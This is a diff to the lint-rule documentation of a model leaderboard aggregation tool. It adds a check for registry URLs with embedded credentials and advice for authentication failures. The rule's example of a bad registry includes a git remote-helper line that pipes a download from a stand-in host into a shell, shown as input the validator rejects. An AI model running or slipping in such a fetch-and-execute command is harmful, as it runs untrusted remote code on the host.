@@ -13,22 +13,26 @@ from evalledger.rules import Rule
 REGISTRY_INVALID = Rule("registry-invalid", ERROR, "a model registry line or entry cannot be used", """\
 Flags a line of the `--models` registry that is not `URL-or-path [ref] [model-id]` (too many
 fields, a model id with spaces), a URL with an unsupported scheme or a remote helper (`ext::`,
-`fd::`), an argument-like URL (`-…`), an invalid git ref name, and for a YAML registry an entry
-that is not a URL or a `{url, ref, model}` mapping, unknown keys, or a registry that cannot be
-read. The run stops (exit 2) before anything is fetched or written.
+`fd::`), an argument-like URL (`-…`), a URL with credentials (`https://user:token@host/…`; shown
+masked, never echoed), an invalid git ref name, and for a YAML registry an entry that is not a URL
+or a `{url, ref, model}` mapping, unknown keys, or a registry that cannot be read. The run stops
+(exit 2) before anything is fetched or written.
 
 Why it matters: silently skipping a line with a typo would drop that model's rows and commit
 their removal from the leaderboard; a remote helper or an option-like URL would let a registry
-line run commands on the machine that aggregates.
+line run commands on the machine that aggregates; a registry URL is published (the tables, the
+JSON result, the job summary) and kept in the cache's git config, so a token in it leaks.
 
 Bad (`models.txt`):
 ```text
 https://huggingface.co/org/model main org/model extra-field
 ext::sh -c "curl evil.example | sh"
+https://user:hf_xxxxxxxx@huggingface.co/meta-llama/Llama-3.1-8B
 ```
-Fixed:
+Fixed (the token goes in `HF_TOKEN`, sent only to the Hub):
 ```text
 https://huggingface.co/org/model  main  org/model
+https://huggingface.co/meta-llama/Llama-3.1-8B
 ```""", command="aggregate")
 
 REGISTRY_DUPLICATE = Rule("registry-duplicate", WARNING, "a model repo is listed twice in the registry", """\
@@ -53,7 +57,10 @@ MODEL_REPO_UNREACHABLE = Rule("model-repo-unreachable", WARNING,
                               "a model repo could not be fetched; its last known rows are kept, marked stale", """\
 Flags a model repo of the registry that could not be fetched this run: the host is down, the repo
 was moved, deleted or made private, the ref no longer exists, or the fetch timed out. The other
-repos are aggregated as usual. The repo's rows from the previous tables (the committed
+repos are aggregated as usual. When the host asked for credentials (HTTP 401/403), the message
+says what to do: for the Hub, that the repo is gated or private and a token is needed in
+`HF_TOKEN` (or the `--token-env` variable), or that the token given was not accepted; for other
+hosts, to configure a git credential helper. The repo's rows from the previous tables (the committed
 `candidates` table) are kept unchanged with `stale: true`, and compete as they did when last
 read, until the repo can be fetched again or is removed from the registry; `--drop-unreachable`
 leaves them out instead. `--strict` turns this warning into exit code 1.
